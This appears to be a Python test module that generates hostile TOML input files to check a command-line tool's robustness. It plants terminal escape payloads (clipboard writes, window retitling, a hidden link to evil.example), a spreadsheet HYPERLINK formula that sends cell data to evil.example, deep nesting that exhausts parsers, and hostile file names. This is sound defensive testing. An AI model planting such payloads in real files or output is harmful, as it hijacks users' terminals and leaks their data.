"""A corpus of hostile pilot files, generated at test time (nothing large is committed).

A pilot file is untrusted input: a colleague's commit, a prospect's copy, a template off a wiki.
Each case here is what such a file could hold: terminal escapes in every text field (OSC 52
clipboard writes, OSC 0 window titles, OSC 8 links, screen clears, C1 CSI, bidi overrides, NUL,
DEL), nesting that exhausts a recursive parser, dates at the calendar's end, files that are
huge, endless or not files at all, a BOM, bytes that are not UTF-8, NUL bytes.

:func:`build` writes them into a folder and returns ``{name: (path, expected exit of check)}``.
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import tomlkit

SAMPLES = Path(__file__).resolve().parent.parent / "sample_pilots"

#: What a hostile text field holds: no whitespace (so that ids stay one word), every kind of
#: escape a terminal acts on. Decoded by a terminal it writes the clipboard, renames the window,
#: clears the screen and hides a link.
PAYLOAD = (
    "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # OSC 52: "echo pwned" into the clipboard
    "\x1b]0;pwned\x07"  # OSC 0: window title
    "\x1b[2J"  # clear the screen
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\"  # OSC 8 hyperlink
    "\x9b31m"  # C1 CSI: red
    "\x9d0;c1title\x9c"  # C1 OSC: title again
    "\u202eevil\u202c"  # right-to-left override
    "\x00\x07\x08\x7f"  # NUL, BEL, backspace, DEL
)
#: Added to free text only (an id must stay one word): a lone CR, file and unit separators.
TEXT_EXTRA = "\rover\x1c\x1f\x85"

#: Keys whose values are words from a fixed list, and addresses (``--eml`` refuses an address
#: it cannot use, rightly): left alone so that the file is valid and every command prints it.
_ENUMS = {
    "status",
    "side",
    "track",
    "stance",
    "influence",
    "verdict",
    "section",
    "email",
    "severity",
    "outcome",
}
#: Keys that hold ids or name one: the payload only (no whitespace), the same everywhere.
_IDS = {
    "id",
    "champion",
    "sponsor",
    "qualification_owner",
    "verifier",
    "owner",
    "reports_to",
    "criterion",
}
_ID_LISTS = {"attendees", "unproven", "signed_by"}

#: Every raw byte a terminal could act on, in text already decoded (CR only without LF after).
RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")


def _poison(table: Any) -> None:
    for key, value in list(table.items()):
        if isinstance(value, str) and key not in _ENUMS:
            table[key] = value + PAYLOAD + ("" if key in _IDS else TEXT_EXTRA)
        elif isinstance(value, list) and key in _ID_LISTS:
            table[key] = [v + PAYLOAD for v in value]
        elif isinstance(value, dict):
            _poison(value)
        elif isinstance(value, list):
            for item in value:
                if isinstance(item, dict):
                    _poison(item)


def poisoned_text() -> str:
    """``ready.toml`` with :data:`PAYLOAD` in every text field and a "Yes, but…" verdict whose
    concern is hostile too (so that ``email`` has something to print). A valid pilot."""
    doc = tomlkit.parse((SAMPLES / "ready.toml").read_text(encoding="utf-8"))
    first = doc["stakeholders"][0]["id"]
    win = tomlkit.table()
    win["verdict"] = "yes_but"
    win["asked_on"] = tomlkit.item(__import__("datetime").datetime(2026, 11, 20, 16, 5))
    win["attendees"] = [first]
    win["concern"] = "thermal drift"
    doc["technical_win"] = win
    _poison(doc)
    return tomlkit.dumps(doc)


def _with_win(verdict: str, asked_on: str, extra: str = "") -> str:
    text = (SAMPLES / "ready.toml").read_text(encoding="utf-8")
    first = re.search(r'\[\[stakeholders\]\]\s*\nid = "([^"]+)"', text)
    assert first is not None
    return (
        text
        + f'\n[technical_win]\nverdict = "{verdict}"\nasked_on = {asked_on}\n'
        + f'attendees = ["{first.group(1)}"]\n{extra}'
    )


def build(folder: Path) -> dict[str, tuple[Path, int]]:
    """Write the corpus into ``folder``: ``{name: (path, exit code check gives it)}``."""
    ready = (SAMPLES / "ready.toml").read_text(encoding="utf-8")
    texts: dict[str, tuple[bytes, int]] = {
        "control-characters": (poisoned_text().encode("utf-8"), 0),
        "arrays-500-deep": ((ready + "\nx = " + "[" * 500 + "]" * 500 + "\n").encode(), 2),
        "inline-tables-340-deep": (
            (ready + "\nx = " + "{a = " * 340 + "1" + "}" * 340 + "\n").encode(),
            2,
        ),
        "arrays-65-deep": ((ready + "\nx = " + "[" * 65 + "]" * 65 + "\n").encode(), 2),
        "yes-but-at-the-calendar-end": (
            _with_win("yes_but", "9999-12-31T10:00:00", 'concern = "x"\n').encode(),
            2,
        ),
        "more-time-at-the-calendar-end": (
            _with_win("more_time", "9999-12-30T10:00:00").encode(),
            2,
        ),
        "year-one": (ready.replace("schema = 1", "schema = 1\nold = 0001-01-01", 1).encode(), 2),
        "bom": (b"\xef\xbb\xbf" + ready.encode(), 2),
        "invalid-utf-8": (ready.encode().replace(b"schema", b"sch\xffema", 1), 2),
        "nul-bytes": (ready.encode().replace(b"\n", b"\x00\n", 3), 2),
        "escape-in-syntax-error": (b"schema = 1\n\x1b]0;pwned\x07 = = \n", 2),
    }
    with_win = _with_win("yes_but", "2026-11-20T16:05:00", 'concern = "x"\n')
    texts.update(
        {
            # Issue 22: what still got through.
            "dotted-key-20000-parts": ((ready + ".".join(["a"] * 20_000) + " = 1\n").encode(), 2),
            "header-200000-parts": (
                (ready + "[" + ".".join(["a"] * 200_000) + "]\n").encode(),
                2,
            ),
            "4000-bad-statuses": (
                (ready + '[[criteria]]\nid = "x"\ntitle = "x"\nstatus = "x"\n' * 4000).encode(),
                2,
            ),
            "misspelt-key-with-escapes": (
                with_win.replace(
                    "[commercial]\n",
                    '[commercial]\n"qualification_owner\\u001b]0;PWNED\\u0007" = "x"\n'
                    '"sponsor\\u001b]52;c;ZWNobw==\\u0007\\u202e" = "x"\n"stance\\u001bc" = 1\n',
                    1,
                ).encode(),
                0,
            ),
            "formula-cells": (
                with_win.replace(
                    'prospect = "',
                    'prospect = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")',
                    1,
                ).encode(),
                0,
            ),
        }
    )
    cases: dict[str, tuple[Path, int]] = {}
    for name, (raw, code) in texts.items():
        path = folder / f"{name}.toml"
        path.write_bytes(raw)
        cases[name] = (path, code)
    huge = folder / "huge.toml"
    with huge.open("wb") as handle:  # sparse where the file system allows: no 16 MiB written
        handle.truncate(16 * 1024 * 1024 + 1)
    cases["huge"] = (huge, 2)
    fifo = folder / "fifo.toml"
    os.mkfifo(fifo)
    cases["fifo"] = (fifo, 2)
    cases["dev-zero"] = (Path("/dev/zero"), 2)
    (folder / "a-folder.toml").mkdir()
    cases["folder"] = (folder / "a-folder.toml", 2)
    # A file name is shown in every message: it is hostile too.
    named = folder / "\x1b]0;pwned\x07.toml"
    named.write_bytes(b"schema = 1\n[pilot]\n")
    cases["hostile-file-name"] = (named, 2)
    # A name that is not UTF-8 (and a C1 byte in it): shown with escapes, never a traceback.
    latin = folder / os.fsdecode(b"caf\xe9-\x9b31m.toml")
    latin.write_bytes(b"schema = 1\n[pilot]\n")
    cases["non-utf-8-file-name"] = (latin, 2)
    loop = folder / "loop-a.toml"
    loop.symlink_to("loop-b.toml")
    (folder / "loop-b.toml").symlink_to("loop-a.toml")
    cases["symlink-loop"] = (loop, 2)
    return cases
